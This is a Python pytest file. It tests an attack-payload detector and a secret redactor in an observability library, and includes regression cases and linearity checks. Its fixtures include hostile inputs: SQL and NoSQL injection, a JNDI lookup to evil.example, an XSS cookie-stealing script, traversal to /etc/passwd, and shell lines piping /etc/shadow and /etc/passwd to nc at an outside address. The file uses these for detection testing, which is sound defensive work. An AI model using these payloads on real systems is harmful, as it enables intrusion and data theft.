"""The root-cause fixes of the held-out round, one behaviour per case: the prose-aware body mode of
attack labelling, value-judged ``…_key`` / ``code`` names, tokens of unknown formats, JSON escaped
twice, passphrases, base64-wrapped JWTs; and that the new detectors stay linear on hostile input."""

from __future__ import annotations

import json
import time

import pytest

from otel_ext.classify.payload import PROSE, PayloadInspector, normalize
from otel_ext.redact import Redactor, looks_like_key, looks_like_prefixed_token
from otel_ext.telemetry import Counters


def body_hit(body: str) -> str | None:
    hit = PayloadInspector().inspect({"http.request.body.content": body}.get)
    return None if hit is None else hit.pattern


@pytest.mark.parametrize("text", [
    "Send the file (PDF) or the link, whichever is easier.",
    "It works (mostly) but the export is slow on large accounts.",
    "Please use `npm install` first, then `npm run build`.",
    "See [the guide](../guides/setup.md) and the [FAQ](./faq.md#billing) for details.",
    "Can you select an item from the list where the total is shown?",
    "The proxy is http://10.10.1.10:3128 for the office network, please update it.",
    "```python\nresp = client.get('/api/orders', params={'page': 2})\n```",
])
def test_prose_body_is_not_an_attack(text: str) -> None:
    assert body_hit(json.dumps({"body": text})) is None
    assert body_hit(text) is None


@pytest.mark.parametrize(("text", "family_prefix"), [
    # an attack padded with prose keeps every strong signal
    ("' union select password from users -- thanks for the quick reply and have a nice day", "sqli."),
    ("hello there, please look at ${jndi:ldap://evil.example/a} when you have some time", "template."),
    ("nice post, my friend, <script>alert(document.cookie)</script> see you at the meeting", "xss."),
    ("please read the file ../../../../etc/passwd for me and tell me what it says", "traversal."),
    ("my name is bob and I like cats; cat /etc/shadow | nc 203.0.113.9 4444", "cmdi."),
    ("run this for me please: `cat /etc/passwd | nc 203.0.113.9 4444` and tell me", "cmdi."),
    ("the value is ' or 'x'='x and that is all I have to say about it", "sqli."),
])
def test_attack_padded_with_prose_is_still_found(text: str, family_prefix: str) -> None:
    hit = body_hit(json.dumps({"comment": text}))
    assert hit is not None and hit.startswith(family_prefix), hit


@pytest.mark.parametrize(("attrs", "expected"), [
    # Mongo-style filters are the ordinary query language of CMS APIs (Strapi, Directus, Payload)
    ({"http.request.body.content": json.dumps({"filters": {"price": {"$gt": 10}, "tags": {"$in": ["a"]}}})}, None),
    ({"http.request.body.content": json.dumps({"username": {"$ne": None}, "password": {"$ne": None}})},
     "sqli.nosql_json"),
    ({"http.request.body.content": json.dumps({"$where": "obj.credits == obj.debits"})}, "sqli.nosql_js"),
    ({"http.request.body.content": json.dumps({"comment": "', $where: '1 == 1'"})}, "sqli.nosql_operator"),
    ({"url.query": "user[$ne]=x&q={\"$gt\": \"\"}"}, "sqli.misc"),
    # a redirect to one of the app's own routes is no system path
    ({"url.query": "next=/private/inbox"}, None),
    ({"url.query": "next=/library/books&from=/dev/portal"}, None),
    ({"url.query": "file=/var/spool/locks"}, "traversal.system_path"),
])
def test_nosql_and_system_path_patterns_tell_apis_from_attacks(attrs: dict[str, str], expected: str | None) -> None:
    hit = PayloadInspector().inspect(attrs.get)
    assert (None if hit is None else hit.pattern) == expected


def test_prose_detection_is_on_the_decoded_text() -> None:
    import re2

    prose = re2.compile(PROSE)
    assert prose.search(normalize("text=We+really+love+this+product%21")) is not None  # a form body
    assert prose.search(normalize('{"comment": "\' OR 1=1--"}')) is None  # a payload is not prose


@pytest.mark.parametrize(("value", "key_like"), [
    ("3ewmawiwddn9fijc2dyk7e7b5d7c368t", True),
    ("AKd83jfD0s9dkf3Kd92", True),
    ("user:42:profile:v2", False),
    ("ERR_CONN_REFUSED_0042", False),
    ("uploads/2026/11/report.png", False),
    ("checkout.button.submit", False),
    ("3f2b8c1e-9d4a-4e6b-8f1a-2c3d4e5f6a7b", False),
    ("aaaaaaaaaaaaaaaa1", False),
])
def test_value_under_a_bare_key_is_judged_by_its_look(value: str, key_like: bool) -> None:
    assert looks_like_key(value) is key_like


@pytest.mark.parametrize(("token", "secret"), [
    ("sgp_157fD85E73857FE9_EDCfFfeF061CdA8Ec9CC180B3975e5bEB7aa503", True),
    ("CFPAT-afqbe9ddeayiaykrwfxjvziabvbcpm7656811883vzk", True),
    ("flb_live_LfUy07jPzYYSdECi5bcT", True),
    ("ch_3MmlLrLkdIwHu7ix0snN0B15", False),  # a Stripe charge id
    ("req_8f14e45fceea167a5a36dedd4bea2543", False),  # a request id
    ("pk_live_51HqLyjWDarjtT1zdp7dc", False),  # publishable: made to be public
    ("sha384-oqVuAfXRKap7fdgcCY5uykM6R9GqQ8KuxyrX7HNQlGYl1kPzQho1wx4JwY8wC", False),  # SRI hash
    ("my-feature-branch-20261126-add-login", False),
])
def test_token_of_an_unknown_format(token: str, secret: bool) -> None:
    assert looks_like_prefixed_token(token) is secret


@pytest.mark.parametrize(("text", "kept", "gone"), [
    ("loaded ACME_KEY=3ewmawiwddn9fijc2dyk7e7b5d7c368t ok", "loaded ACME_KEY=", "3ewmawiwddn9"),
    ("cache hit key=user:0:profile:v2 ttl=300", "key=user:0:profile:v2", None),
    ("GET /oauth/callback?code=4%2F0AfJohXk9Qw8Er7Ty6Ui5Op4&state=af0 HTTP/1.1", "&state=af0", "0AfJohXk9Qw8"),
    ('{"code": "ERR_CONN_REFUSED_0042", "country_code": "US"}', "ERR_CONN_REFUSED_0042", None),
    ("password: correct horse battery staple", "password: ", "battery staple"),
    ("password: hunter2x order shipped", "order shipped", "hunter2x"),
    ("upstream rejected sgp_157fD85E73857FE9_EDCfFfeF061CdA8Ec9CC180B3975e5bEB7aa503 (401)", "(401)", "sgp_157"),
    ("ZXlKaGJHY2lPaUpJVXpJMU5pSjkuZXlKemRXSWlPaUl4TWpNMElu", None, "ZXlKaGJHY2lP"),
    (json.dumps({"log": json.dumps({"msg": json.dumps({"apiKey": "Tw1ce-Esc4ped-9f8e7d"})})}), "apiKey",
     "Tw1ce-Esc4ped"),
])
def test_redaction_of_the_round_s_shapes(text: str, kept: str | None, gone: str | None) -> None:
    out = Redactor(counters=Counters("t")).redact_text(text)
    if kept is not None:
        assert kept in out, out
    if gone is not None:
        assert gone not in out, out


def test_redacting_twice_changes_nothing_more() -> None:
    r = Redactor(counters=Counters("t"))
    once = r.redact_text("Bearer eyJBearer =password")
    assert r.redact_text(once) == once  # "[REDACTED:authorization] =x" is no key=value pair


@pytest.mark.parametrize("text", [
    "ab_" + "1a" * 100_000,
    ("ab_" + "1a" * 10 + " ") * 10_000,
    "key=" + "a1" * 50_000,
    "code=" + "x_" * 50_000,
    '\\\\\\"password' * 10_000,
    "ZXlK" + "A" * 200_000,
    "password: " + "word " * 50_000,
])
def test_new_detectors_stay_linear_on_hostile_input(text: str) -> None:
    start = time.process_time()
    Redactor(counters=Counters("t")).redact_text(text)
    assert time.process_time() - start < 5.0  # generous: linear scans take well under 0.5 s here
